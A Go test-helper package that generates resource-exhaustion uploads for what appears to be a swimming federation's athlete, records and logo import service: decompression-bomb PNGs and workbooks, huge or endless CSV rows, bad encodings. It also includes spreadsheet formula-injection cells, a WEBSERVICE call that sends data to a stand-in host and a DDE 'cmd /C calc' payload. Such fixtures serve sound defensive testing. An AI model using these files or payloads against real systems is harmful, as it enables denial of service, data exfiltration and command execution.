// Package hostile creates files that cost far more than their size: files that are refused, and the most expensive
// valid ones.
package hostile

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
)

// File is a hostile file and the kind of upload it claims to be.
type File struct {
	Name    string
	Mode    string // modalita of the upload
	Content []byte
	Save    bool   // save it, not only a dry run
	LENEX   string // CONTENUTO of a LENEX file
	Refused bool   // the whole file must be refused
	Lines   bool   // every line must be refused
	Club    bool   // a club uploads it
}

// Kinds of upload.
const (
	sheet     = "atleti"
	logo      = "logo"
	records   = "record"
	times     = "tempi"
	entries   = "presenze"
	baseTimes = "tempibase"
	results   = "risultati"
)

// columnsOf are the headings of each kind.
var columnsOf = map[string][]string{
	sheet:     strings.Split("COD_AFF;COGNOME;NOME;SESSO;DATA_NASCITA;CODICE_FISCALE;NAZIONALITA;TESSERA;TIPO_TESSERAMENTO;QUALIFICA;EMAIL;TELEFONO;CATEGORIA_DIS", ";"),
	records:   strings.Split("CIRCUITO;GARA;CATEGORIA;SESSO;VASCA;TEMPO;ATLETA;SOCIETA;LUOGO;DATA;DESCRIZIONE;DIS", ";"),
	times:     strings.Split("TESSERA;COGNOME;NOME;ANNO;GARA;VASCA;DATA;TEMPO;MANIFESTAZIONE;LUOGO;TIPO;PASSAGGI", ";"),
	entries:   strings.Split("TESSERA;COGNOME;NOME;ANNO;DATA_NASCITA;GARA;TEMPO;NOTE", ";"),
	baseTimes: strings.Split("VASCA;ANNO;GARA;SESSO;CENTESIMI;TEMPO", ";"),
	results:   strings.Split("TESSERA;COGNOME;NOME;ANNO;SESSO;COD_SOC;GARA;VASCA;DATA;LUOGO;TEMPO;STATO", ";"),
}

// Files returns functions that create the files for a deployment, about twenty megabytes each. card is that of an
// athlete of the club for which times and entries are uploaded; regional selects the files of results, which only one
// body exchanges.
func Files(card string, regional bool) []func() File {
	out := athleteFiles()
	kinds := []string{records, times, entries, baseTimes}
	if regional {
		out, kinds = nil, []string{results}
	}
	for _, kind := range kinds {
		out = append(out, sheetFiles(kind)...)
	}
	if regional {
		return out
	}
	return append(out, longFiles(card)...)
}

// of returns a function that creates a file on demand.
func of(name, mode string, content func() []byte) func() File {
	return func() File { return File{Name: name, Mode: mode, Content: content()} }
}

// sheetFiles returns hostile files for a kind of sheet.
func sheetFiles(kind string) []func() File {
	columns := columnsOf[kind]
	wide := strings.Join(columns, ";") + strings.Repeat(";", 480)
	return []func() File{
		of("one shared text of 30 MB in 500 cells a row", kind, func() []byte {
			return workbook(columns, sharedText(30<<20),
				sharedCells(500, 60))
		}),
		of("a shared text of 64 bytes in four million cells", kind, func() []byte {
			return workbook(columns, sharedText(64),
				sharedCells(500, 8000))
		}),
		of("rows of 32 kB", kind, func() []byte { return workbook(columns, sharedText(1), longRows(columns, 2800)) }),
		of("cells of formulas, NUL and marks", kind, func() []byte { return workbook(columns, sharedText(1), oddRows(columns, 4000)) }),
		of("20 MB of separators", kind, func() []byte { return bytes.Repeat([]byte(";"), 20<<20-1) }),
		of("columns up to the limit in 30 000 rows", kind,
			func() []byte { return []byte(wide + "\n" + strings.Repeat("x"+strings.Repeat(";", 490)+"y\n", 30_000)) }),
		of("columns without end", kind, func() []byte { return []byte(wide + "\n" + strings.Repeat("x;", 15_000) + "\n") }),
		of("bytes of no encoding", kind, func() []byte {
			return append([]byte(strings.Join(columns, ";")+"\n"), bytes.Repeat([]byte("\xff\xfe\xc3\x28;L'\xf0\x9f\x8f\x8a;\xed\xa0\x80;\"\n"),
				40_000)...)
		}),
		of("every cell of 50 000 rows wrong", kind, func() []byte { return wrongRows(columns) }),
	}
}

// longFiles returns the most expensive valid files: fifty thousand good rows.
func longFiles(card string) []func() File {
	clock := func(i int) string { return fmt.Sprintf("%d:%02d.%02d", 20+i/6000%10, i/100%60, i%100) }
	return []func() File{
		long(records, func(i int) string {
			return fmt.Sprintf("%d;1500 SL;Ragazzi;%s;%d;%s;Atleta %d;Società;Roma;04/05/2025;;%d", 1+i%3, []string{"M", "F"}[i/3%2],
				25+25*(i/6%2), clock(i), i, i/12%2)
		}),
		long(times, func(i int) string {
			return fmt.Sprintf("%s;;;;1500 SL;25;%02d/%02d/2025;%s;Gara %d;Roma;GARA;50=31.20 100=1:05.10", card, 1+i%28, 1+i/28%12, clock(i),
				i/5000)
		}),
		long(baseTimes, func(i int) string {
			return fmt.Sprintf("%s;%d;100 SL;%d;%d;", []string{"LCM", "SCM"}[i%2], 2000+i/4%100, 1+i/2%2, 4000+i%2000)
		}),
	}
}

// long returns a function that creates a file of good rows to save.
func long(kind string, row func(i int) string) func() File {
	return func() File {
		var b bytes.Buffer
		b.WriteString(strings.Join(columnsOf[kind], ";") + "\n")
		for i := range 50_000 {
			b.WriteString(row(i) + "\n")
		}
		return File{Name: "50 000 good rows", Mode: kind, Content: b.Bytes(), Save: true}
	}
}

// Crowd returns a file of athletes of one club who may all enter the same races.
func Crowd(athletes int, club string) File {
	var b bytes.Buffer
	b.WriteString("COD_AFF;COGNOME;NOME;SESSO;DATA_NASCITA;TESSERA;TIPO_TESSERAMENTO;QUALIFICA;DATA_SCADENZA_TESSERAMENTO\n")
	for i := range athletes {
		fmt.Fprintf(&b, "%s;Folla %s;Pia;F;04/03/2012;FOLLA-%d;AGO;AT;31/08/2036\n", club, letters(i), i)
	}
	return File{Name: "a crowd", Mode: sheet, Content: b.Bytes(), Save: true}
}

// letters writes a number as letters, because a surname has no digits.
func letters(n int) string {
	text := ""
	for n++; n > 0; n /= 26 {
		text += string(rune('a' + n%26))
	}
	return text
}

// CrowdFiles enters the crowd in its races, fifty thousand rows per file, and adds results if regional. Repeating the
// rows with other times is the most expensive.
func CrowdFiles(athletes int, races []string, regional bool) []func() File {
	clock := func(i, more int) string { return fmt.Sprintf("%d:%02d.%02d", 20+more, i/100%60, i%100) }
	entry := func(more int) func(i int) string {
		return func(i int) string {
			return fmt.Sprintf("FOLLA-%d;;;;;%s;%s;", i%athletes, races[i/athletes%len(races)], clock(i, more))
		}
	}
	result := func(more int) func(i int) string {
		return func(i int) string {
			return fmt.Sprintf("FOLLA-%d;;;;;;%s;;;;%s;R", i%athletes, races[i/athletes%len(races)], clock(i, more))
		}
	}
	if regional {
		return []func() File{long(entries, entry(0)), long(results, result(0)), long(results, result(1))}
	}
	return []func() File{long(entries, entry(0)), long(entries, entry(1))}
}

// athleteFiles returns the hostile files of athletes and pictures.
func athleteFiles() []func() File {
	columns := columnsOf[sheet]
	return []func() File{
		of("one shared text of 30 MB in 500 cells a row", sheet, func() []byte {
			return workbook(columns, sharedText(30<<20),
				sharedCells(500, 60))
		}),
		of("a shared text of 64 bytes in four million cells", sheet, func() []byte {
			return workbook(columns, sharedText(64),
				sharedCells(500, 8000))
		}),
		of("a million shared texts", sheet, func() []byte { return workbook(columns, manyTexts(990_000), sharedCells(14, 40_000)) }),
		of("rows of 32 kB", sheet, func() []byte { return workbook(columns, sharedText(1), longRows(columns, 2800)) }),
		of("an unused part of 90 MB", sheet, func() []byte {
			return workbook(columns, sharedText(1), sharedCells(1, 1), part{"xl/media/x.bin", zeros(23 << 20)})
		}),
		of("20 MB of separators", sheet, func() []byte { return bytes.Repeat([]byte(";"), 20<<20-1) }),
		of("one cell of 20 MB", sheet, func() []byte { return append([]byte(`"`), bytes.Repeat([]byte("x"), 20<<20-2)...) }),
		of("every cell of 50 000 rows wrong", sheet, func() []byte { return wrongRows(columns) }),
		of("a picture of 36 megapixels with 64 bits each", logo, func() []byte { return picture(6000, 16, 6, 0) }),
		of("a picture of 39 megapixels with 32 bits each", logo, func() []byte { return picture(6250, 8, 6, 0) }),
		of("a picture of 33 megapixels in passes", logo, func() []byte { return picture(5700, 8, 6, 1) }),
		of("a grey picture of 39 megapixels", logo, func() []byte { return picture(6250, 8, 0, 0) }),
		of("a picture of 10 000 megapixels", logo, func() []byte { return picture(100_000, 1, 0, 0) }),
		of("a picture in 300 layers", logo, func() []byte { return layers(2000, 300) }),
	}
}

// part is a file inside a workbook.
type part struct {
	name  string
	write func(io.Writer)
}

// workbook packs shared texts and a sheet into a workbook.
func workbook(columns []string, texts, rows func(io.Writer), more ...part) []byte {
	const head = `<?xml version="1.0" encoding="UTF-8"?>`
	fixed := func(text string) func(io.Writer) { return func(w io.Writer) { put(w, head+text) } }
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, p := range append([]part{
		{"[Content_Types].xml", fixed(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)},
		{"xl/workbook.xml", fixed(`<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`)},
		{"xl/_rels/workbook.xml.rels", fixed(`<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>`)},
		{"xl/sharedStrings.xml", texts},
		{"xl/worksheets/sheet1.xml", func(w io.Writer) {
			put(w, head+"<worksheet><sheetData>"+header(columns))
			rows(w)
			put(w, "</sheetData></worksheet>")
		}},
	}, more...) {
		w, err := z.Create(p.name)
		if err != nil {
			panic(err) // writing to memory cannot fail
		}
		p.write(w)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

// header returns the first row of a sheet.
func header(columns []string) string {
	row := "<row>"
	for _, c := range columns {
		row += `<c t="inlineStr"><is><t>` + c + "</t></is></c>"
	}
	return row + "</row>"
}

func sharedText(size int) func(io.Writer) {
	return func(w io.Writer) {
		put(w, "<sst><si><t>")
		repeat(w, "x", size)
		put(w, "</t></si></sst>")
	}
}

func manyTexts(n int) func(io.Writer) {
	return func(w io.Writer) {
		put(w, "<sst>")
		for i := range n {
			put(w, fmt.Sprintf("<si><t>testo numero %d</t></si>", i))
		}
		put(w, "</sst>")
	}
}

func sharedCells(cells, rows int) func(io.Writer) {
	return func(w io.Writer) { repeat(w, "<row>"+strings.Repeat(`<c t="s"><v>0</v></c>`, cells)+"</row>", rows) }
}

func longRows(columns []string, rows int) func(io.Writer) {
	return func(w io.Writer) {
		repeat(w, "<row>"+strings.Repeat(`<c t="inlineStr"><is><t>`+strings.Repeat("y", 2400)+"</t></is></c>", len(columns))+"</row>", rows)
	}
}

// oddRows writes formulas, control characters and other unusual cells.
func oddRows(columns []string, rows int) func(io.Writer) {
	odd := []string{
		`<c><f>WEBSERVICE("http://posta.example/"&amp;A1)</f><v>1</v></c>`, `<c t="str"><v>=cmd|' /C calc'!A1</v></c>`,
		`<c t="str"><v>a_x0000_b_x000A_c</v></c>`, `<c t="str"><v>L'altro &#x1F3CA; &#x202E;</v></c>`,
		`<c t="b"><v>1</v></c>`, `<c t="e"><v>#REF!</v></c>`, `<c><v>1E+308</v></c>`, `<c><v>-2958466</v></c>`,
	}
	return func(w io.Writer) {
		for i := range rows {
			put(w, "<row>")
			for c := range columns {
				put(w, odd[(i+c)%len(odd)])
			}
			put(w, "</row>")
		}
	}
}

// wrongRows returns a file in which every cell is invalid.
func wrongRows(columns []string) []byte {
	var out bytes.Buffer
	out.WriteString(strings.Join(columns, ";") + "\n")
	for i := range 50_000 {
		for c := range columns {
			fmt.Fprintf(&out, "%d sbagliato %d;", i, c)
		}
		out.WriteByte('\n')
	}
	return out.Bytes()
}

func zeros(n int) func(io.Writer) { return func(w io.Writer) { repeat(w, "\x00", n) } }

// picture returns a square PNG of one colour.
func picture(side uint32, bits, colour, interlace byte) []byte {
	var out bytes.Buffer
	out.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&out, binary.BigEndian, uint32(len(data)))
		body := append([]byte(kind), data...)
		out.Write(body)
		_ = binary.Write(&out, binary.BigEndian, crc32.ChecksumIEEE(body))
	}
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, side), side)
	chunk("IHDR", append(head, bits, colour, 0, 0, interlace))
	channels := map[byte]int{0: 1, 6: 4}[colour]
	size := (int(side)*channels*int(bits)/8 + 1) * int(side)
	if interlace != 0 {
		size += 16 * int(side) // one more byte per line and pass
	}
	var data bytes.Buffer
	z := zlib.NewWriter(&data)
	repeat(z, "\x00", min(size, 300<<20))
	_ = z.Close()
	chunk("IDAT", data.Bytes())
	chunk("IEND", nil)
	return out.Bytes()
}

// layers returns a progressive JPEG with many scans of the whole picture.
func layers(side uint16, scans int) []byte {
	out := []byte{0xFF, 0xD8, 0xFF, 0xC2, 0, 17, 8}
	out = binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(out, side), side)
	out = append(out, 3, 1, 0x22, 0, 2, 0x11, 0, 3, 0x11, 0)
	for range scans {
		out = append(out, 0xFF, 0xDA, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 63, 0)
		out = append(out, make([]byte, 300)...)
	}
	return append(out, 0xFF, 0xD9)
}

// repeat writes a text many times, in large blocks.
func repeat(w io.Writer, text string, times int) {
	many := max(1, min(times, 1<<16/len(text)))
	block := []byte(strings.Repeat(text, many))
	for ; times >= many; times -= many {
		write(w, block)
	}
	write(w, block[:times*len(text)])
}

func put(w io.Writer, text string) { write(w, []byte(text)) }

func write(w io.Writer, b []byte) {
	if _, err := w.Write(b); err != nil {
		panic(err) // writing to memory cannot fail
	}
}
